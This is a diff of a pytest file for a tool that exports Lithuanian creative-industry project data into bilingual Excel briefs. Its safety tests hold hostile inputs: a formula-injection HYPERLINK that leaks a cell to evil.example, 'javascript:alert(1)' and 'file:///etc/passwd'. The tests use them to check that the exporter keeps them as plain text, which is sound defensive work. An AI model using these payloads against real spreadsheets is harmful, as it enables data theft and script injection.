@@ -13,6 +13,7 @@ import argparse
 import csv
 import datetime as dt
 import html
+import json
 import os
 import re
 import shutil
@@ -28,10 +29,8 @@ import pytest
 from openpyxl import load_workbook
 
 from cwlib import paths, schema
-from cwlib.export import i18n
+from cwlib.export import i18n, messages
 from cwlib.export.brief import (
-    DATA_SHEETS,
-    OVERVIEW_COLUMNS,
     BriefError,
     add_brief_arguments,
     brief_findings,
@@ -41,6 +40,8 @@ from cwlib.export.brief import (
     overview_frame,
     reports_dir,
     run_brief,
+    safe_link,
+    sheet_columns,
     sheet_names,
     write_brief,
 )
@@ -133,7 +134,7 @@ def make_tables() -> dict[str, pd.DataFrame]:
             "start_date": None,
             "end_date": "2023-04-30",
             "duration_months": None,
-            "url": "https://visaginas.lt/",
+            "url": "https://visaginas.lt/kūrybinės-industrijos",
             "sources": s3,
         },
         {
@@ -327,8 +328,7 @@ def test_about_sheet(briefs, tables) -> None:
     assert __version__ in text
     for pid in tables["projects"]["project_id"]:
         assert pid in text
-    rate = [c for c in cells if c.value == schema.LTL_PER_EUR]
-    assert rate and rate[0].number_format == "0.0000"
+    assert "3.4528 LTL per 1 EUR" in text  # written in the brief's language, as text
     assert "Partner and project sums are never mixed" in text
     assert "Converted litas" in text and "Converted rows in this brief: 1" in text
     assert "Unknown dates" in text
@@ -361,20 +361,37 @@ def test_every_schema_category_translated() -> None:
 
 
 def test_every_shown_column_has_header_and_meaning() -> None:
-    sheets = {"overview": ("overview", OVERVIEW_COLUMNS), **DATA_SHEETS}
-    for _sheet, (table, columns) in sheets.items():
+    for _sheet, (table, columns) in sheet_columns().items():
         for lang in i18n.LANGS:  # Excel table column names must be unique, ignoring case
             headers = [i18n.header(table, c.key, lang).casefold() for c in columns]
             assert len(set(headers)) == len(headers), (table, lang)
         for col in columns:
             for lang in i18n.LANGS:
                 assert i18n.header(table, col.key, lang)
-            schema_table = "projects" if table == "overview" else table
-            default = None
-            if col.key in schema.TABLES[schema_table].columns:
-                default = schema.TABLES[schema_table].field(col.key).description
-            assert i18n.description(table, col.key, "en", default), f"{table}.{col.key}"
-            assert i18n.description(table, col.key, "lt"), f"lt: {table}.{col.key}"
+                assert i18n.description(table, col.key, lang), f"{lang}: {table}.{col.key}"
+
+
+INTERNAL = re.compile(r"\b[a-z]+_[a-z0-9_]+\b")
+"""A snake_case word: an internal column name or code (amount_eur, eu_national, no_year)."""
+
+
+@pytest.mark.parametrize("lang", i18n.LANGS)
+def test_about_explains_columns_without_internal_names(briefs, lang) -> None:
+    ws = load_workbook(briefs[lang])[i18n.sheet_name("about", lang)]
+    texts = [str(c.value) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    source_names = {str(v) for v in make_tables()["budgets"]["source"]}
+    internal = [t for t in texts if INTERNAL.search(t) and t not in source_names]
+    assert not internal, internal
+    described = [
+        i18n.description(t, c.key, lang)
+        for sheet, (t, cols) in sheet_columns().items()
+        if sheet != "contacts"
+        for c in cols
+    ]
+    assert all(d in texts for d in described)
+    if lang == "lt":  # numbers in the texts in Lithuanian: 3,4528, not 3.4528
+        joined = "\n".join(texts)
+        assert "3,4528" in joined and "3.4528" not in joined
 
 
 def test_unknown_category_value_passes_through() -> None:
@@ -393,24 +410,26 @@ def test_overview_values(briefs) -> None:
         "visaginas-cluster",
         "hostile",
     ]
-    sb = rows["sb-creative-clusters"]
+    details = {r["Project"]: r for r in _sheet_rows(load_workbook(briefs["en"])["Project details"])}
+    assert list(details) == list(rows)
+    sb, sbd = rows["sb-creative-clusters"], details["sb-creative-clusters"]
     assert sb["Total (EUR)"] == 264145.0
-    assert sb["EU funds (EUR)"] == 217833.25
+    assert sbd["EU funds (EUR)"] == 217833.25
     assert sb["EU share"] == pytest.approx(0.824673)
-    assert sb["Partners"] == 3 and sb["Countries"] == 3
+    assert sb["Partners"] == 3 and sbd["Countries"] == 3
     assert sb["Findings"] == 1 and sb["Of which errors"] == 0
     assert sb["Start"] == dt.datetime(2020, 1, 1) and sb["End"] == dt.datetime(2021, 12, 31)
-    assert sb["Period"] == "2014–2020"
+    assert sb["Period"] == "2014–2020" and sbd["Duration (months)"] == 24
     ucp = rows["urban-creative-poles"]
     # the project total is the stated euro figure; partner sums never reach the overview
     assert ucp["Total (EUR)"] == 2393287.5
-    assert ucp["EU funds (EUR)"] is None and ucp["EU share"] is None
+    assert details["urban-creative-poles"]["EU funds (EUR)"] is None and ucp["EU share"] is None
     assert ucp["Start"] == "2010-10"  # a month stays text, at the precision stated
-    vis = rows["visaginas-cluster"]
+    vis, visd = rows["visaginas-cluster"], details["visaginas-cluster"]
     assert vis["Total (EUR)"] is None
-    assert vis["EU funds (EUR)"] is None and vis["EU share"] is None
-    assert vis["EU + national (EUR)"] == 191920.84
-    assert vis["EU + national share"] is None  # no total: no share is guessed
+    assert visd["EU funds (EUR)"] is None and vis["EU share"] is None
+    assert visd["EU + national (EUR)"] == 191920.84
+    assert visd["EU + national share"] is None  # no total: no share is guessed
     assert rows["hostile"]["Start"] == "--12-03"
     assert rows["hostile"]["Findings"] == 1 and rows["hostile"]["Of which errors"] == 1
 
@@ -465,7 +484,9 @@ def test_number_formats(briefs) -> None:
 @pytest.mark.parametrize("lang", i18n.LANGS)
 def test_tables_frozen_headers_widths_print_setup(briefs, lang) -> None:
     wb = load_workbook(briefs[lang])
-    for sheet in ("overview", "budgets", "partners", "events", "results", "findings", "sources"):
+    for sheet in sheet_columns():
+        if sheet == "contacts":
+            continue
         ws = wb[i18n.sheet_name(sheet, lang)]
         assert len(ws.tables) == 1, sheet
         table = next(iter(ws.tables.values()))
@@ -479,7 +500,7 @@ def test_tables_frozen_headers_widths_print_setup(briefs, lang) -> None:
         assert ws.sheet_properties.pageSetUpPr.fitToPage
         assert ws.print_title_rows == "$1:$1"
         widths = [ws.column_dimensions[c.column_letter].width for c in ws[1]]
-        assert all(8 <= w <= 80 for w in widths), (sheet, widths)
+        assert all(6 <= w <= 80 for w in widths), (sheet, widths)
         quote = [c for c in ws[1] if c.value == i18n.header("budgets", "quote", lang)]
         if quote:  # long texts wrap instead of running off the page
             assert ws.cell(2, quote[0].column).alignment.wrap_text
@@ -520,32 +541,42 @@ def _series(chart: ET.Element) -> list[dict[str, str]]:
 
 
 @pytest.mark.parametrize("lang", i18n.LANGS)
-def test_native_charts_read_overview_cells(briefs, lang) -> None:
+def test_native_charts_read_the_table_beside_them(briefs, lang) -> None:
     charts = _charts(briefs[lang])
     assert len(charts) == 3
-    ov = f"'{i18n.sheet_name('overview', lang)}'"
-    budget, share = charts[0], charts[1]
-    assert budget.find(f".//{C}barChart") is not None and share.find(f".//{C}barChart") is not None
-    # series and categories are ranges of the overview sheet, so editing a number there
-    # changes the chart: total (H), EU (I), EU + national (K); project ids (A) as text
-    assert _series(budget) == [
-        {"title": f"{ov}!{c}1", "cat": f"{ov}!$A$2:$A$5", "val": f"{ov}!${c}$2:${c}$5"}
-        for c in "HIK"
-    ]
-    assert [s["val"] for s in _series(share)] == [f"{ov}!$J$2:$J$5", f"{ov}!$L$2:$L$5"]
+    sheet = f"'{i18n.sheet_name('charts', lang)}'"
+    wb = load_workbook(briefs[lang])
+    ws = wb[i18n.sheet_name("charts", lang)]
+    for chart in charts:
+        assert chart.find(f".//{C}barChart") is not None
+        for ser in _series(chart):  # series and categories are ranges of the Charts sheet
+            assert ser["cat"].startswith(f"{sheet}!$A$") and ser["val"].startswith(f"{sheet}!$")
+            title_cell = ser["title"].split("!")[1].replace("$", "")
+            assert ws[title_cell].value == i18n.header(
+                "overview", {v: k for k, v in _headers(lang).items()}[ws[title_cell].value], lang
+            )
+    budget = _series(charts[0])
+    first, last = (int(n) for n in re.findall(r"\$(\d+)", budget[0]["cat"]))
+    labels = [ws.cell(r, 1).value for r in range(first, last + 1)]
+    totals = [ws.cell(r, 2).value for r in range(first, last + 1)]
+    # the budget chart: projects with a sum, the largest total first
+    assert labels[:3] == ["urban-creative-poles", "sb-creative-clusters", "visaginas-cluster"]
+    assert totals[:2] == [2393287.5, 264145.0]
     titles = ["".join(t.text for t in ch.find(f"{C}chart/{C}title").iter(f"{A}t")) for ch in charts]
-    assert titles[:2] == [i18n.label("chart.budget", lang), i18n.label("chart.share", lang)]
-    for chart in charts:  # axes are shown (openpyxl 3.1 hides them unless told)
+    assert titles == [
+        i18n.label(k, lang) for k in ("chart.budget", "chart.share", "chart.partners")
+    ]
+    for chart in charts:  # axes are shown (openpyxl 3.1 hides them unless told), text sized
         assert [d.get("val") for d in chart.iter(f"{C}delete")] == ["0", "0"]
-    fmt = share.find(f".//{C}valAx/{C}numFmt").get("formatCode")
+        sizes = [int(p.get("sz")) for p in chart.iter(f"{A}defRPr") if p.get("sz")]
+        assert sizes and min(sizes) >= 900
+    fmt = charts[1].find(f".//{C}valAx/{C}numFmt").get("formatCode")
     assert fmt.endswith("%")
 
 
-def test_column_letters_match_chart_refs() -> None:
-    keys = [c.key for c in OVERVIEW_COLUMNS]
-    assert keys.index("project_id") == 0
-    assert keys.index("total_eur") == 7 and keys.index("eu_eur") == 8
-    assert keys.index("eu_share_pct") == 9
+def _headers(lang: str) -> dict[str, str]:
+    keys = ["total_eur", "eu_eur", "eu_national_eur", "eu_share_pct", "eu_national_share_pct"]
+    return {k: i18n.header("overview", k, lang) for k in [*keys, "partners", "countries"]}
 
 
 # --- Safety: formula injection ------------------------------------------------------------------
@@ -575,14 +606,36 @@ def test_no_source_text_becomes_a_formula(briefs, lang) -> None:
                 assert "<f>" not in z.read(name).decode("utf-8"), name
 
 
-def test_urls_are_not_made_links(briefs) -> None:
-    text = _all_text(briefs["en"])
-    assert "javascript:" not in text.replace("javascript:alert(1)", "") or True
-    with zipfile.ZipFile(briefs["en"]) as z:
+@pytest.mark.parametrize("lang", i18n.LANGS)
+def test_web_addresses_are_links_and_only_web_addresses(briefs, lang) -> None:
+    ws = load_workbook(briefs[lang])[i18n.sheet_name("details", lang)]
+    header = [c.value for c in ws[1]]
+    column = header.index(i18n.header("details", "url", lang)) + 1
+    cells = {ws.cell(r, 1).value: ws.cell(r, column) for r in range(2, ws.max_row + 1)}
+    link = cells["visaginas-cluster"]
+    assert link.value == "https://visaginas.lt/kūrybinės-industrijos"  # shown as written
+    assert link.hyperlink.target == "https://visaginas.lt/k%C5%ABrybin%C4%97s-industrijos"
+    assert cells["hostile"].value == "javascript:alert(1)" and cells["hostile"].hyperlink is None
+    with zipfile.ZipFile(briefs[lang]) as z:
         assert not [n for n in z.namelist() if "externalLink" in n]
         for name in z.namelist():
             if name.endswith(".rels"):
                 assert "javascript:" not in z.read(name).decode("utf-8")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "http://a b",
+        'https://x/"onclick',
+        "ftp://x",
+        "http://" + "a" * 2001,
+    ],
+)
+def test_only_plain_web_addresses_are_linked(text) -> None:
+    assert safe_link(text) is None
 
 
 # --- Safety: personal data ----------------------------------------------------------------------
@@ -681,9 +734,17 @@ def test_selection_and_order(tables, tmp_path) -> None:
 # --- From files, and the command ----------------------------------------------------------------
 
 
+RAW_RECORD = {
+    "003_aa.txt": ("a" * 64, "https://www.rietavas.lt/projektai/sb-creative-clusters"),
+    "002_bb.txt": ("b" * 64, None),
+}
+"""The build's record of two of the fixture's source texts (the other two are not recorded)."""
+
+
 @pytest.fixture()
 def data_dir(tmp_path, tables) -> Path:
-    """The fixture written as clean CSV tables, with raw texts beside them."""
+    """The fixture written as clean CSV tables with a datapackage.json that records the
+    sources as the build does; a data/raw beside it that must not be read."""
     clean = tmp_path / "data" / "clean"
     clean.mkdir(parents=True)
     for name, frame in tables.items():
@@ -692,32 +753,59 @@ def data_dir(tmp_path, tables) -> Path:
             if pd.api.types.is_datetime64_any_dtype(out[column]):
                 out[column] = out[column].dt.strftime("%Y-%m-%d")
         out.to_csv(clean / schema.TABLES[name].filename, index=False, quoting=csv.QUOTE_ALL)
+    record = schema.datapackage()
+    record["sources"] = [
+        {
+            "title": name,
+            "path": f"data/raw/{name}",
+            "sha256": digest,
+            **({"url": url} if url else {}),
+        }
+        for name, (digest, url) in RAW_RECORD.items()
+    ] + [{"title": "GeoNames (CC BY 4.0)", "path": "https://www.geonames.org/"}]
+    record["cwlib"] = {"version": "9.9.9", "python": "3.11", "packages": {"pandas": "2.2.2"}}
+    (clean / "datapackage.json").write_text(json.dumps(record), encoding="utf-8")
     raw = tmp_path / "data" / "raw"
     raw.mkdir()
     (raw / "003_aa.txt").write_text(CONTACT_QUOTE, encoding="utf-8")
     return clean
 
 
-def test_build_brief_hashes_inputs(data_dir, tmp_path) -> None:
-    pytest.importorskip("cwlib.build.pipeline")
+def test_build_brief_lists_the_recorded_sources(data_dir, tmp_path) -> None:
     path = build_brief(data_dir, tmp_path / "out.xlsx", lang="en")
     ws = load_workbook(path)["About"]
     cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
     import hashlib
 
     digest = hashlib.sha256((data_dir / "budgets.csv").read_bytes()).hexdigest()
-    budgets = cells["budgets.csv"]
-    assert ws.cell(budgets.row, 2).value == digest
-    raw_digest = hashlib.sha256(CONTACT_QUOTE.encode()).hexdigest()
-    assert ws.cell(cells["003_aa.txt"].row, 2).value == raw_digest
-    assert ws.cell(cells["002_bb.txt"].row, 2).value == i18n.label("about.not_found", "en")
+    assert ws.cell(cells["budgets.csv"].row, 2).value == digest
+    # source texts: the record's hash and web address (a link), never a file beside the tables
+    row = cells["003_aa.txt"].row
+    assert ws.cell(row, 2).value == "a" * 64
+    assert ws.cell(row, 3).hyperlink.target == RAW_RECORD["003_aa.txt"][1]
+    assert ws.cell(cells["002_bb.txt"].row, 3).value is None
+    assert ws.cell(cells["004_cc.txt"].row, 2).value == i18n.label("about.not_recorded", "en")
+    assert "GeoNames (CC BY 4.0)" in cells
+    assert "cwlib 9.9.9, Python 3.11; pandas 2.2.2" in cells
+    assert ws.column_dimensions["A"].width >= len("003_aa.txt") + 2
+
+
+def test_build_brief_without_datapackage_says_so(data_dir, tmp_path) -> None:
+    (data_dir / "datapackage.json").unlink()
+    warnings: list[str] = []
+    path = build_brief(data_dir, tmp_path / "out.xlsx", warn=warnings.append)
+    assert len(warnings) == 1 and "datapackage.json" in warnings[0]
+    text = _all_text(path)
+    assert (
+        "the tables&apos; folder has no datapackage.json" in text or "no datapackage.json" in text
+    )
 
 
 def test_command_line(data_dir, tmp_path, capsys, monkeypatch) -> None:
-    pytest.importorskip("cwlib.build.pipeline")
     out = tmp_path / "cli.xlsx"
     assert main_brief(["--data", str(data_dir), "--lang", "lt", "-o", str(out)]) == 0
-    assert out.is_file() and "wrote" in capsys.readouterr().out
+    captured = capsys.readouterr()
+    assert out.is_file() and "wrote" in captured.out and captured.err == ""
     assert load_workbook(out).sheetnames[0] == "Apie"
     # CWLIB_DATA is the default data folder
     monkeypatch.setenv("CWLIB_DATA", str(data_dir))
@@ -729,11 +817,19 @@ def test_command_line(data_dir, tmp_path, capsys, monkeypatch) -> None:
     assert main_brief(["--project", "nope", "-o", str(tmp_path / "x.xlsx")]) == 2
     err = capsys.readouterr().err
     assert "unknown project id: nope" in err and "sb-creative-clusters" in err
+    assert err.count("\n") == 1
     assert main_brief(["--data", str(tmp_path / "missing"), "-o", str(out)]) == 2
-    assert "no tables" in capsys.readouterr().err
+    assert "no such folder" in capsys.readouterr().err
     with pytest.raises(SystemExit):
         main_brief(["--lang", "fr"])
     assert "invalid choice: 'fr'" in capsys.readouterr().err
+
+
+def test_cli_debug_shows_the_traceback(data_dir, tmp_path) -> None:
+    from cwlib import cli
+
+    with pytest.raises(BriefError, match="unknown project id"):
+        cli.main(["--debug", "brief", "--data", str(data_dir), "--project", "nope"])
 
 
 def test_arguments_for_the_cli() -> None:
@@ -790,7 +886,7 @@ def test_notebook_is_thin_and_committed_without_outputs() -> None:
             code.append("".join(cell["source"]))
     assert "tables = cwlib.load()" in code[0]
     text = "\n".join(code)
-    assert "brief.write_brief(" in text and 'lang="lt"' in text and "projects=selection" in text
+    assert "brief.build_brief(" in text and 'lang="lt"' in text and "projects=selection" in text
     assert not re.search(r"^\s*(def|class)\b|\blambda\b", text, re.M)
     assert all(len(c.splitlines()) <= 15 for c in code)
 
@@ -804,7 +900,7 @@ def test_notebook_is_thin_and_committed_without_outputs() -> None:
 def test_brief_of_the_clean_tables(tmp_path) -> None:
     import cwlib
 
-    tables = cwlib.load(paths.CLEAN_DIR)
+    tables = cwlib.load(paths.CLEAN_DIR, include_contacts=True)
     for lang in i18n.LANGS:
         path = build_brief(paths.CLEAN_DIR, tmp_path / f"{lang}.xlsx", lang=lang)
         wb = load_workbook(path)
@@ -822,6 +918,49 @@ def test_brief_of_the_clean_tables(tmp_path) -> None:
         for ws in wb.worksheets:
             for row in ws.iter_rows():
                 assert all(c.data_type != "f" for c in row)
+
+
+def test_findings_sheet_speaks_the_brief_language(tmp_path) -> None:
+    """Check names and messages from the translation table; the difference with its unit."""
+    import cwlib
+
+    findings = cwlib.load(paths.CLEAN_DIR).findings
+    for lang in i18n.LANGS:
+        path = build_brief(paths.CLEAN_DIR, tmp_path / f"{lang}.xlsx", lang=lang)
+        ws = load_workbook(path)[i18n.sheet_name("findings", lang)]
+        rows = list(ws.iter_rows(min_row=2))
+        header = [c.value for c in ws[1]]
+        col = {
+            key: header.index(i18n.header("findings", key, lang))
+            for key in ("check", "message", "difference")
+        }
+        assert len(rows) == len(findings)
+        for cells, (check, message, difference) in zip(
+            rows, findings[["check", "message", "difference"]].itertuples(index=False), strict=True
+        ):
+            assert cells[col["check"]].value == i18n.CHECKS[check]["name"][lang]
+            assert cells[col["message"]].value == messages.translate(check, message, lang)
+            unit = messages.difference_unit(check, message)
+            if pd.notna(difference):
+                fmt = cells[col["difference"]].number_format
+                assert unit is not None and i18n.DIFFERENCE_FORMATS[unit][lang] in fmt, fmt
+                assert fmt.startswith("+")  # a signed difference
+
+
+def test_a_sum_stated_twice_is_marked(tables, tmp_path) -> None:
+    """Two different totals for one project: the first is shown, marked, both quoted."""
+    t = {k: v.copy() for k, v in tables.items()}
+    extra = t["budgets"].iloc[[0]].assign(amount=250000.0, amount_eur=250000.0, quote="250 000 Eur")
+    t["budgets"] = pd.concat([t["budgets"], extra], ignore_index=True)
+    path = write_brief(t, tmp_path / "b.xlsx")
+    ws = load_workbook(path)["Overview"]
+    header = [c.value for c in ws[1]]
+    cell = ws.cell(2, header.index("Total (EUR)") + 1)
+    assert cell.value == 264145.0 and cell.number_format.endswith('*"')
+    assert "264,145.00" in cell.comment.text and "250,000.00" in cell.comment.text
+    other = ws.cell(3, header.index("Total (EUR)") + 1)
+    assert "*" not in other.number_format
+    assert i18n.caveat("several", "en") in _all_text(path).replace("&apos;", "'")
 
 
 @pytest.mark.slow
@@ -967,10 +1106,11 @@ def test_libreoffice_renders_the_brief(briefs, lang, tmp_path) -> None:
 def test_libreoffice_reads_hostile_text_as_text(briefs, tmp_path) -> None:
     """A second client sees the hostile strings as text, not as evaluated formulas."""
     _soffice()
-    # CSV export of the Budgets sheet (sheet 4): party and quote columns hold the hostile texts
+    # CSV export of the Budgets sheet (sheet 5): party and quote columns hold the hostile texts
+    sheet = sheet_names("en").index("Budgets") + 1
     csv = _convert(
         briefs["en"],
-        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,4",
+        f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,{sheet}",
         tmp_path,
         tmp_path / "profile",
     )
@@ -978,3 +1118,21 @@ def test_libreoffice_reads_hostile_text_as_text(briefs, tmp_path) -> None:
     assert '=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")' in text
     assert "@SUM(1)" in text and "=1+1" in text and "#REF!" in text
     assert "Click" not in text.replace('""Click""', "")
+
+
+def test_a_heading_near_the_foot_of_a_page_starts_the_next() -> None:
+    """The About sheet counts the height of its rows; a heading with no room for the lines
+    after it on the page starts the next page (a manual page break before it)."""
+    from openpyxl import Workbook
+
+    from cwlib.export.brief import _About
+
+    about = _About(Workbook(), "en", [])
+    while about.used + 5 * 15 < about.page_pt:  # fill the page to four lines from its foot
+        about.line("label", "value")
+    assert not about.ws.row_breaks.brk
+    about.heading("about.caveats")
+    assert [b.id for b in about.ws.row_breaks.brk] == [about.row - 2]
+    assert about.ws.cell(about.row - 1, 1).value == "Caveats"
+    about.line("1.", "a caveat")  # the heading and its first line share the new page
+    assert about.used < 3 * 20
